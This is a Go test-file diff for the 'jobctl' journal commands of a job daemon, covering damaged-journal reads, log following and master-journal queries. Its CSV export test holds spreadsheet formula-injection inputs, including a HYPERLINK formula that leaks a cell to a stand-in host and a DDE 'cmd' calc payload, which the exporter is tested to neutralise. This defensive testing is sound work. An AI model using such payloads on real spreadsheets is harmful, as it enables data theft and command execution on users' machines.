@@ -1,13 +1,21 @@
 package main
 
 import (
+	"bytes"
+	"context"
+	"encoding/csv"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
+	"jobd/cmd/internal/exit"
 	"jobd/journal"
+	"jobd/journal/eventlog"
+	"jobd/journal/replay"
 	"jobd/store/storetest/must"
 )
 
@@ -99,5 +107,264 @@ func TestReadersEndWithExitCode1(t *testing.T) {
 	}
 	if got := (jobctl{}).run(t, "journal", "verify", "--journal", dir); got.code != 1 || !strings.Contains(got.out, "1 event is missing\nfirst bad sequence number: 6") {
 		t.Errorf("verify: %+v", got)
+	}
+}
+
+// damageEvent changes a byte of an event in a journal of oneDay's.
+func damageEvent(t *testing.T, dir, within string) {
+	t.Helper()
+	path := filepath.Join(dir, "segment-00000001.db")
+	content := must.Get(os.ReadFile(path))(t)
+	at := bytes.LastIndex(content, []byte(within))
+	if at < 0 {
+		t.Fatalf("%q is not in the journal", within)
+	}
+	content[at] ^= 1
+	must.Do(t, os.WriteFile(path, content, 0o600))
+}
+
+// The newest events of a damaged journal are the newest that can be read, and the damage is told.
+func TestNewestEventsOfADamagedJournal(t *testing.T) {
+	t.Parallel()
+	all := strings.SplitAfter(wholeLog, "\n")
+	for name, test := range map[string]struct {
+		damaged []string
+		n       string
+		want    []string
+		told    string // where the damage begins; "" where nothing that was wanted is damaged
+	}{
+		"behind it":          {[]string{"@tokenseve"}, "2", all[15:17], ""},
+		"just behind it":     {[]string{"10.0.0.9:4001"}, "1", all[16:17], ""},
+		"one of three":       {[]string{"claim was lost"}, "3", all[15:17], "event 15"},
+		"in their middle":    {[]string{"claim was lost"}, "5", append(append([]string{}, all[12:14]...), all[15:17]...), "event 15"},
+		"all, and one more":  {[]string{`"a","b"`, `"a","concurrency"`}, "2", all[13:15], "event 16"},
+		"the newest of them": {[]string{`"a","concurrency"`}, "1", all[15:16], "event 17"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			dir := oneDay(t)
+			for _, within := range test.damaged {
+				damageEvent(t, dir, within)
+			}
+			got := jobctl{}.run(t, "journal", "log", "--journal", dir, "-n", test.n)
+			if got.out != strings.Join(test.want, "") {
+				t.Errorf("stdout:\n%s\nwant:\n%s", got.out, strings.Join(test.want, ""))
+			}
+			if test.told == "" && got.err != "" || !strings.Contains(got.err, test.told) || (got.code == 0) != (test.told == "") {
+				t.Errorf("exit code %d, stderr %q; want it to tell of damage at %q", got.code, got.err, test.told)
+			}
+		})
+	}
+}
+
+// What is told as the newest of a job is that, whatever was damaged before.
+func TestTheNewestOfAJobBehindDamage(t *testing.T) {
+	t.Parallel()
+	whole, damaged := oneDay(t), oneDay(t)
+	want := jobctl{}.run(t, "why", "6", "--journal", whole)
+	damageEvent(t, damaged, "10.0.0.9:4000") // which was a signal to it
+	got := jobctl{}.run(t, "why", "6", "--journal", damaged)
+	if !strings.Contains(want.out, "SIGTERM") || got.out != want.out || got.code == 0 || !strings.Contains(got.err, "event 9") {
+		t.Errorf("%+v, want the sentence of %+v and the damage", got, want)
+	}
+}
+
+// A spreadsheet runs what begins as a formula does; numbers stay what they are.
+func TestCellsThatASpreadsheetWouldRun(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	j := openJournal(t, dir)
+	outputs := map[string]string{ // what a job printed, and its cell
+		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
+		"+1+1":                        "'+1+1",
+		"-2+3+cmd|' /C calc'!A0":      "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(1)":                     "'@SUM(1)",
+		"\t=1":                        "'\t=1",
+		"\r=1":                        "'\r=1",
+		"\n=1":                        "'\n=1",
+		"  =1":                        "'  =1",
+		"\ufeff=1":                    "'\ufeff=1",
+		"\uff1d1":                     "'\uff1d1",
+		"\ttext":                      "'\ttext",
+		"-5":                          "-5",
+		"+5.25":                       "+5.25",
+		"-1e6\n":                      "-1e6\n",
+		"-1e6x":                       "'-1e6x",
+		"-":                           "'-",
+		"a=1":                         "a=1",
+		"1=1":                         "1=1",
+		"":                            "",
+		"'=1":                         "'=1",
+		"plain\n=1":                   "plain\n=1",
+	}
+	jobs := map[string]string{}
+	number := int64(-5) // ids stay numbers, below 0 as well
+	for text := range outputs {
+		if number++; number == 0 {
+			number++
+		}
+		appendAll(
+			t, j,
+			journal.Draft{Job: number, Payload: journal.Accepted{Target: "a", Token: "@tokenfive"}},
+			journal.Draft{Job: number, Payload: journal.Running{Attempt: 1}},
+			journal.Draft{Job: number, Payload: journal.Started{Pid: 100, StartTime: 1, BootID: "boot"}},
+			journal.Draft{Job: number, Payload: journal.Done{Result: "ok", Stdout: journal.Output{Kept: []byte(text), Size: int64(len(text))}}},
+		)
+		jobs[textOf(number)] = text
+	}
+	if err := j.Close(); err != nil {
+		t.Fatal(err)
+	}
+	got := jobctl{}.run(t, "journal", "export", "--format=csv", "--journal", dir)
+	rows, err := csv.NewReader(strings.NewReader(strings.ReplaceAll(got.out, "\r", "\\r"))).ReadAll()
+	if err != nil || got.code != 0 {
+		t.Fatalf("%v, %+v", err, got)
+	}
+	seen := 0
+	for _, row := range rows[1:] {
+		if row[4] != "done" {
+			continue
+		}
+		seen++
+		text, known := jobs[row[3]]
+		if want := strings.ReplaceAll(outputs[text], "\r", "\\r"); !known || row[6] != want {
+			t.Errorf("job %s printed %q, its cell is %q, want %q", row[3], text, row[6], want)
+		}
+		for _, cell := range row {
+			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") {
+				t.Errorf("cell %q", cell)
+			}
+		}
+	}
+	if seen != len(outputs) {
+		t.Errorf("%d ends of %d", seen, len(outputs))
+	}
+}
+
+// The column that names workers is theirs to fill.
+func TestAWorkersNameInACell(t *testing.T) {
+	t.Parallel()
+	top := t.TempDir()
+	journalOf(t, top+"/a", "=cmd()", 1)
+	journalOf(t, top+"/b", "node", 1)
+	got := jobctl{}.run(t, "journal", "export", "--format=csv", "--journal", top+"/a", "--journal", top+"/b")
+	if got.code != 0 || !strings.Contains(got.out, "\n'=cmd(),1,") {
+		t.Errorf("%+v", got)
+	}
+}
+
+// Following goes on where a segment ends, is sealed and even removed meanwhile.
+func TestJournalLogFollowsAcrossSegments(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	seconds := 0
+	j := must.Get(eventlog.Open(t.Context(), eventlog.Config{Dir: dir, SegmentAge: 2 * time.Second, Retention: time.Nanosecond, Now: func() time.Time {
+		seconds++
+		return begin.Add(time.Duration(seconds) * time.Second)
+	}}))(t)
+	defer j.Close()
+	appendAll(t, j, journal.Draft{Job: 1, Payload: journal.Ignored{Reason: "reason 0"}})
+
+	ctx, cancel := context.WithCancel(t.Context())
+	defer cancel()
+	reader, writer := io.Pipe()
+	ended := make(chan error, 1)
+	go func() {
+		ended <- run(ctx, []string{"journal", "log", "--follow", "--kind", "ignored", "--journal", dir}, surroundings{
+			out: writer, err: t.Output(), now: time.Now, location: time.UTC,
+		})
+		writer.Close()
+	}()
+	expectLine(t, reader, "reason 0")
+	for n := 1; n <= 9; n++ {
+		reason := "reason " + string(rune('0'+n))
+		appendAll(t, j, journal.Draft{Job: 1, Payload: journal.Ignored{Reason: reason}})
+		expectLine(t, reader, reason)
+		j.SetPosition(1 << 40) // all that was appended
+		must.Do(t, j.Maintain(t.Context()))
+	}
+	cancel()
+	if err := <-ended; err != nil {
+		t.Errorf("interrupted: %v", err)
+	}
+	r := must.Get(replay.Open(dir))(t)
+	if first, err := r.First(t.Context()); err != nil || first == 1 {
+		t.Errorf("the history begins with event %d, %v: nothing was removed, so nothing was shown", first, err)
+	}
+}
+
+// mastersDay makes a master's journal: two requests name job 9, one was refused to somebody who named it.
+func mastersDay(t *testing.T) (dir string) {
+	t.Helper()
+	dir = t.TempDir()
+	j := openJournal(t, dir)
+	appendAll(
+		t, j,
+		journal.Draft{Payload: journal.Opened{Name: journal.MasterName, Targets: map[string]int{}}},
+		journal.Draft{Payload: journal.Registered{Worker: "node-1", Targets: []string{"mail"}, By: "10.0.0.1:4000"}},
+		journal.Draft{Payload: journal.Requested{Request: "run-manual", Jobs: []int64{8, 9}, By: "ann (token, 10.0.0.5:4711)", Workers: []string{"node-1"}}},
+		journal.Draft{Payload: journal.Requested{Request: "pause", About: `targets=["mail"]`, By: "ann (token, 10.0.0.5:4711)", Workers: []string{"node-1"}}},
+		journal.Draft{Payload: journal.Refused{Request: "cancel", Jobs: []int64{9}, Reason: "bob may read, not run", By: "bob (uid, unix:7)", Times: 2}},
+		journal.Draft{Payload: journal.Requested{
+			Request: "cancel", Jobs: []int64{9}, About: "grace=5", By: "eve (password, 10.0.0.6:4712)", Workers: []string{"node-1", "node-2"}, Others: 3,
+		}},
+		journal.Draft{Payload: journal.Left{Worker: "node-1", Reason: "it stops", By: "10.0.0.1:4000"}},
+		journal.Draft{Payload: journal.Closed{Reason: "stopped"}},
+	)
+	must.Do(t, j.Close())
+	return dir
+}
+
+// What a master was asked about a job, and by whom, is read from the master's journal, which says that
+// the job's own history is elsewhere; with the worker's journal beside it, it is all one story.
+func TestAMastersJournalTellsOfAJob(t *testing.T) {
+	t.Parallel()
+	const note = "this is the master's journal: the job's own history is in its worker's"
+	master, worker := mastersDay(t), oneDay(t)
+	asked := []string{
+		"run-manual was asked for by ann (token, 10.0.0.5:4711), of node-1",
+		"cancel was refused to bob (uid, unix:7), because bob may read, not run; so were 2 more requests",
+		"cancel was asked for by eve (password, 10.0.0.6:4712), of node-1,node-2 and 3 more, with grace=5",
+	}
+	for name, test := range map[string]struct {
+		args []string
+		code int
+		want []string
+		not  string
+	}{
+		"show":         {[]string{"show", "9", "--journal", master}, exit.Success, append([]string{"job 9\n", note, "2026-11-20 10:00:03"}, asked...), "pause"},
+		"--master":     {[]string{"--master", "show", "9", "--journal", master}, exit.Success, append([]string{note}, asked...), "pause"},
+		"journal show": {[]string{"journal", "show", "9", "--journal", master}, exit.Success, append([]string{note}, asked...), "pause"},
+		"why":          {[]string{"why", "9", "--journal", master}, exit.Success, []string{"job 9: 2026-11-20 10:00:06", asked[2] + "; " + note}, asked[0]},
+		"why of two":   {[]string{"why", "8", "9", "--journal", master}, exit.Success, []string{"job 8: ", "job 9: "}, asked[1]},
+		"as JSON":      {[]string{"why", "9", "--journal", master, "--output", "json"}, exit.Success, []string{`"kind":"requested"`, `"workers":["node-1","node-2"],"others":3`}, note},
+		"with worker's": {
+			[]string{"show", "9", "--journal", master, "--journal", worker},
+			exit.Success,
+			append([]string{"claimed by web-1", "given back, because the claim was lost"}, asked...), note,
+		},
+		"worker's why":  {[]string{"why", "9", "--journal", worker}, exit.Success, []string{"given back, because the claim was lost"}, note},
+		"unknown":       {[]string{"show", "7", "--journal", master}, exit.NoJob, []string{"job 7: no journal knows it; " + note}, "asked"},
+		"why unknown":   {[]string{"why", "7", "8", "--journal", master}, exit.NoJob, []string{"job 7: no journal knows it; " + note, "job 8: "}, "job 9"},
+		"with a target": {[]string{"why", "mail:9", "--journal", master}, exit.Usage, []string{"by its ID alone"}, "asked"},
+		"so many runs":  {[]string{"show", "-n", "3", "9", "--journal", master}, exit.Usage, []string{"not for --journal"}, "asked"},
+		"log --job":     {[]string{"journal", "log", "--job", "9", "--journal", master, "-n", "1"}, exit.Success, []string{`request=cancel jobs=9 about="grace=5" workers="node-1,node-2 and 3 more"`}, "bob"},
+		"log --by":      {[]string{"journal", "log", "--by", "ann", "--journal", master}, exit.Success, []string{"request=run-manual jobs=8,9 workers=node-1", "request=pause"}, "eve"},
+		"log":           {[]string{"journal", "log", "--journal", master}, exit.Success, []string{"registered", "left", "closed", `request=cancel jobs=9 reason="bob may read, not run"`}, note},
+		"verify":        {[]string{"journal", "verify", "--journal", master}, exit.Success, []string{"8"}, note},
+		"export":        {[]string{"journal", "export", "--journal", master}, exit.Success, []string{`"kind":"registered"`, `"jobs":[9]`}, note},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			got := jobctl{}.run(t, test.args...)
+			if got.code != test.code || strings.Contains(got.out, test.not) {
+				t.Errorf("%+v", got)
+			}
+			for _, want := range test.want {
+				if !strings.Contains(got.out+got.err, want) {
+					t.Errorf("%+v, want %q", got, want)
+				}
+			}
+		})
 	}
 }
